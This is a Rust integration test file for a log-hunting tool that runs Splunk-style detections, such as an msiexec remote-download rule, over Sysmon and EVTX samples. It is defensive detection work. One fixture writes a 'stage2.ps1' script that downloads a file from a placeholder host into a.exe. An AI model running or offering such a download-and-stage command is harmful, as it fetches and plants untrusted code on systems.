//! End-to-end: `vigil hunt` and `vigil search` on shipped samples and real logs.

mod common;
use common::*;

#[test]
fn seed_fires_on_every_sample_format_golden() {
    let o = vigil(&["hunt", "--format", "jsonl", "samples/"]);
    assert!(o.status.success(), "{}", stderr(&o));
    golden("hunt_samples.jsonl", &stdout(&o));
    let err = stderr(&o);
    assert!(err.contains("0 skipped"), "{err}");
    assert!(err.contains("1 detection run, 8 results from 1"), "{err}");
}

#[test]
fn seed_result_fields_match_splunk_for_sysmon() {
    let o = vigil(&["hunt", "--format", "jsonl", "samples/sysmon_msiexec.xml"]);
    assert!(o.status.success(), "{}", stderr(&o));
    let rows: Vec<serde_json::Value> = stdout(&o).lines().map(|l| serde_json::from_str(l).expect("json line")).collect();
    // Two true positives in the Sysmon sample; the near misses (msiexec without a URL, a URL
    // on another binary) must not appear.
    assert_eq!(rows.len(), 2, "{rows:#?}");
    let r = &rows[0]["result"];
    assert_eq!(rows[0]["detection"], "Windows MSIExec Remote Download");
    // drop_dm_object_name removed the prefix; the by-clause order is kept, then aggregates.
    let keys: Vec<&str> = r.as_object().unwrap().keys().map(|k| k.as_str()).collect();
    assert_eq!(keys.first(), Some(&"action"));
    assert_eq!(&keys[keys.len() - 3..], ["count", "firstTime", "lastTime"]);
    assert!(!keys.iter().any(|k| k.starts_with("Processes.")));
    assert_eq!(r["process_name"], "msiexec.exe");
    assert_eq!(r["vendor_product"], "Microsoft Sysmon");
    assert_eq!(r["user_id"], "null", "fillnull_value=null fills a missing by-field");
    assert_eq!(r["count"], "1");
    // security_content_ctime renders %Y-%m-%dT%H:%M:%S in UTC.
    let ft = r["firstTime"].as_str().unwrap();
    assert_eq!(ft.len(), 19);
    assert_eq!(&ft[10..11], "T");
    for row in &rows {
        let p = row["result"]["process"].as_str().unwrap().to_lowercase();
        assert!(p.contains("http://") || p.contains("https://"), "{p}");
    }
}

#[test]
fn tz_changes_rendered_times() {
    let utc = stdout(&vigil(&["hunt", "--format", "csv", "samples/sysmon_msiexec.xml"]));
    let paris = stdout(&vigil(&["hunt", "--format", "csv", "--tz", "Europe/Paris", "samples/sysmon_msiexec.xml"]));
    assert!(utc.contains("2026-11-20T10:15:01"), "{utc}");
    assert!(paris.contains("2026-11-20T11:15:01"), "{paris}");
}

#[test]
fn user_filter_macro_layer_overrides_builtin() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::create_dir_all(dir.path().join("macros")).unwrap();
    std::fs::write(
        dir.path().join("macros/windows_msiexec_remote_download_filter.yml"),
        "name: windows_msiexec_remote_download_filter\ndefinition: search NOT parent_process_name=cmd.exe\n",
    )
    .unwrap();
    let content = dir.path().to_str().unwrap();
    let o = vigil(&["hunt", "--format", "jsonl", "--content", content, "samples/sysmon_msiexec.xml"]);
    assert!(o.status.success(), "{}", stderr(&o));
    let out = stdout(&o);
    assert_eq!(out.lines().count(), 1, "{out}");
    assert!(out.contains("powershell.exe"), "{out}");
}

#[test]
fn adhoc_search_with_macros() {
    let o = vigil(&[
        "search",
        "--format",
        "csv",
        "| tstats count from datamodel=Endpoint.Processes where `process_msiexec` by Processes.dest | `drop_dm_object_name(Processes)` | sort - count",
        "samples/",
    ]);
    assert!(o.status.success(), "{}", stderr(&o));
    let out = stdout(&o);
    let mut lines = out.lines();
    assert_eq!(lines.next(), Some("detection,dest,count"));
    assert!(lines.all(|l| l.starts_with("search,")));
}

#[test]
fn spl_error_shows_caret_and_exits_2() {
    let o = vigil(&["search", "| tstats count from datamodel=Endpoint.Processes | addtotals", "samples/"]);
    assert_eq!(o.status.code(), Some(2));
    let err = stderr(&o);
    assert!(err.contains("unsupported command `addtotals`"), "{err}");
    assert!(err.contains("search:1:"), "{err}");
    assert!(err.contains("^^^^^"), "{err}");
}

#[test]
fn unknown_detection_is_a_usage_error() {
    let o = vigil(&["hunt", "--detection", "No Such Detection", "samples/"]);
    assert_eq!(o.status.code(), Some(2));
    assert!(stderr(&o).contains("No Such Detection"));
}

#[test]
fn real_logs_give_no_seed_hits_and_report_skips() {
    let Some(shared) = shared() else {
        eprintln!("skipped: ../shared/data/real not present");
        return;
    };
    let real = shared.join("data/real");
    let o = vigil(&["hunt", "--format", "jsonl", real.to_str().unwrap()]);
    assert!(o.status.success(), "{}", stderr(&o));
    assert_eq!(stdout(&o), "", "the real logs hold no msiexec download");
    let err = stderr(&o);
    assert!(err.contains("not an XML event"), "{err}");
    assert!(err.contains("bad EVTX chunk"), "{err}");
    // --strict turns skipped records into exit code 3.
    let strict = vigil(&["hunt", "--strict", real.join("xmlwineventlog").to_str().unwrap()]);
    assert_eq!(strict.status.code(), Some(3));
}

#[test]
fn real_sysmon_normalizes_through_search() {
    let Some(shared) = shared() else {
        eprintln!("skipped: ../shared/data/real not present");
        return;
    };
    let f = shared.join("data/real/xmlwineventlog/system_integrity_process.log");
    let o = vigil(&[
        "search",
        "--format",
        "jsonl",
        "| tstats count from datamodel=Endpoint.Processes by Processes.dest Processes.user Processes.process_name Processes.parent_process_name Processes.process_id Processes.process_integrity_level | `drop_dm_object_name(Processes)`",
        f.to_str().unwrap(),
    ]);
    assert!(o.status.success(), "{}", stderr(&o));
    let v: serde_json::Value = serde_json::from_str(stdout(&o).trim()).unwrap();
    let r = &v["result"];
    assert_eq!(r["dest"], "EC2AMAZ-FKEOM7G");
    assert_eq!(r["user"], "NT AUTHORITY\\SYSTEM");
    assert_eq!(r["process_name"], "conhost.exe");
    assert_eq!(r["parent_process_name"], "wermgr.exe");
    assert_eq!(r["process_id"], "9148");
    assert_eq!(r["process_integrity_level"], "system");
}

#[test]
fn raw_event_search_with_stats() {
    let Some(shared) = shared() else {
        eprintln!("skipped: ../shared/data/real not present");
        return;
    };
    let f = shared.join("data/real/xmlwineventlog/certutil_exe_certificate_extraction.raw");
    let o = vigil(&["search", "--format", "csv", "`sysmon` EventCode=1 | stats count by Image", f.to_str().unwrap()]);
    assert!(o.status.success(), "{}", stderr(&o));
    let out = stdout(&o);
    let total: u64 = out.lines().skip(1).filter_map(|l| l.rsplit(',').next()?.parse::<u64>().ok()).sum();
    assert_eq!(total, 20, "20 Sysmon EID 1 events in the file:\n{out}");
}

#[test]
fn missing_input_path_is_a_usage_error() {
    let o = vigil(&["hunt", "samples/", "no/such/dir"]);
    assert_eq!(o.status.code(), Some(2), "{}", stderr(&o));
    assert!(stderr(&o).contains("no/such/dir"), "{}", stderr(&o));
}

/// Raw-event results say where each event was read: `source_file` and `record` (the line of a
/// text file, the EventRecordID of an EVTX record); an aggregate drops them unless grouped by.
#[test]
fn raw_event_results_carry_file_and_record() {
    let o = vigil(&["search", "--format", "jsonl", "`sysmon` EventCode=1 CommandLine=*http*", "samples/sysmon_msiexec.xml"]);
    assert!(o.status.success(), "{}", stderr(&o));
    let rows: Vec<serde_json::Value> = stdout(&o).lines().map(|l| serde_json::from_str(l).expect("json line")).collect();
    assert!(!rows.is_empty());
    let text = std::fs::read_to_string(repo().join("samples/sysmon_msiexec.xml")).expect("sample");
    for r in &rows {
        let r = &r["result"];
        assert_eq!(r["source_file"], "samples/sysmon_msiexec.xml");
        let line: usize = r["record"].as_str().and_then(|s| s.parse().ok()).expect("record number");
        assert_eq!(text.lines().nth(line - 1), r["_raw"].as_str(), "record {line} is the event's line");
    }
    // `_time` is rendered as Splunk's exports write it, in --tz.
    let o = vigil(&[
        "search",
        "--format",
        "csv",
        "--tz",
        "Europe/Paris",
        "`sysmon` EventCode=1 | sort _time | head 1 | table _time",
        "samples/sysmon_msiexec.xml",
    ]);
    assert_eq!(stdout(&o), "detection,_time\nsearch,2026-11-20T11:15:01.123+01:00\n", "{}", stderr(&o));
    let o = vigil(&["search", "--format", "jsonl", "`sysmon` | stats count by EventCode", "samples/sysmon_msiexec.xml"]);
    assert!(!stdout(&o).contains("source_file"), "{}", stdout(&o));

    let Some(shared) = shared() else {
        eprintln!("skipped: ../shared/data/real not present");
        return;
    };
    let evtx = shared.join("data/real/evtx/sysmon.evtx");
    let o =
        vigil(&["search", "--format", "jsonl", "EventCode=1 | head 3 | table source_file record EventRecordID", evtx.to_str().unwrap()]);
    assert!(o.status.success(), "{}", stderr(&o));
    let rows: Vec<serde_json::Value> = stdout(&o).lines().map(|l| serde_json::from_str(l).expect("json line")).collect();
    assert_eq!(rows.len(), 3);
    for r in &rows {
        let r = &r["result"];
        assert!(r["source_file"].as_str().is_some_and(|f| f.ends_with("sysmon.evtx")), "{r}");
        assert_eq!(r["record"], r["EventRecordID"], "{r}");
    }
}

/// Files that are not logs are recognised by content and skipped with one line; an empty file
/// is named; a time range says how many events fell before and after it.
#[test]
fn non_logs_and_empty_files_are_reported() {
    let dir = tempfile::tempdir().expect("temp dir");
    let sample = std::fs::read(repo().join("samples/sysmon_msiexec.xml")).expect("sample");
    std::fs::write(dir.path().join("sysmon.log"), &sample).expect("write");
    std::fs::write(dir.path().join("shot.dat"), b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\x01\0").expect("write");
    std::fs::write(dir.path().join("capture.bin"), b"\xd4\xc3\xb2\xa1\x02\0\x04\0\0\0\0\0").expect("write");
    std::fs::write(dir.path().join("stage2.ps1"), "$u = 'http://x/a'\nInvoke-WebRequest $u -OutFile a.exe\n").expect("write");
    std::fs::write(dir.path().join("empty.log"), "").expect("write");
    let path = dir.path().to_string_lossy().into_owned();
    let o = vigil(&["hunt", &path]);
    assert!(o.status.success(), "{}", stderr(&o));
    let err = stderr(&o);
    assert!(err.contains("3 files not read, not logs (image: 1, packet capture: 1, text without events: 1)"), "{err}");
    assert!(err.contains("1 file with no events (empty or zero records):") && err.contains("empty.log"), "{err}");
    assert!(err.contains("0 skipped; 1 detection run, 2 results"), "{err}");
    let o = vigil(&["hunt", "--earliest", "2026-11-20T10:16:00Z", "--latest", "2026-11-20T10:19:00Z", &path]);
    let err = stderr(&o);
    assert!(err.contains("6 events outside it (1 before, 5 at or after)"), "{err}");
    assert!(err.contains("the events span 2026-11-20T10:15:01"), "{err}");
}

/// `replay` of an EVTX file writes XML lines that read back as the same events, shifted.
#[test]
fn replay_writes_evtx_as_xml_lines() {
    let Some(shared) = shared() else {
        eprintln!("skipped: ../shared/data/real not present");
        return;
    };
    let evtx = shared.join("data/real/evtx/sysmon.evtx");
    let dir = tempfile::tempdir().expect("temp dir");
    let out = dir.path().join("sysmon.log");
    let o = vigil(&[
        "replay",
        evtx.to_str().unwrap(),
        "--source",
        "XmlWinEventLog:Microsoft-Windows-Sysmon/Operational",
        "--sourcetype",
        "XmlWinEventLog",
        "--shift-to",
        "2026-01-31T12:00:00Z",
        "-o",
        out.to_str().unwrap(),
    ]);
    assert!(o.status.success(), "{}", stderr(&o));
    let count = |p: &str| {
        let o = vigil(&["search", "--format", "csv", "EventCode=1 | stats count max(_time) as latest", p]);
        stdout(&o).lines().nth(1).unwrap_or_default().to_string()
    };
    let original = count(evtx.to_str().unwrap());
    let replayed = count(out.to_str().unwrap());
    assert_eq!(original.split(',').nth(1), replayed.split(',').nth(1), "same events");
    assert!(replayed.ends_with(",1769860800"), "{replayed}");
}

#[test]
fn no_detections_reads_and_normalises_for_the_selected_detections_and_runs_none() {
    let normal = vigil(&["hunt", "--format", "jsonl", "samples/"]);
    let read = vigil(&["hunt", "--no-detections", "--verbose", "--format", "jsonl", "samples/"]);
    assert!(read.status.success(), "{}", stderr(&read));
    assert_eq!(stdout(&read), "", "no detection, no result");
    let (normal_err, read_err) = (stderr(&normal), stderr(&read));
    let events = |err: &str| err.lines().find(|l| l.contains("events read")).and_then(|l| l.split(", ").nth(1)).map(str::to_string);
    assert_eq!(events(&read_err), events(&normal_err), "{read_err}");
    assert!(read_err.contains("; 0 detections run, 0 results from 0"), "{read_err}");
    // Every sample is a process creation: each becomes a row of the seed's data model.
    let rows: u64 = read_err
        .lines()
        .find_map(|l| l.strip_prefix("vigil: ")?.split_once(" data model rows built")?.0.parse().ok())
        .unwrap_or_else(|| panic!("no row count in {read_err}"));
    assert!(rows >= 8, "{read_err}");
    // Not with what only detections do.
    assert!(!vigil(&["hunt", "--no-detections", "--explain", "samples/"]).status.success());
}

#[test]
fn verbose_names_the_detections_that_cost_most_in_the_scan() {
    let o = vigil(&["hunt", "--verbose", "--format", "jsonl", "samples/"]);
    assert!(o.status.success(), "{}", stderr(&o));
    let err = stderr(&o);
    let line = err.lines().find(|l| l.contains("in the scan,")).unwrap_or_else(|| panic!("no scan cost line in {err}"));
    // The seed detection is the only one, tried on the process rows, and kept the 8 hits.
    assert!(line.contains("costliest: Windows MSIExec Remote Download ("), "{line}");
    assert!(line.contains("kept 8)"), "{line}");
    // Without --verbose the scan is not profiled.
    assert!(!stderr(&vigil(&["hunt", "--format", "jsonl", "samples/"])).contains("in the scan,"));
}
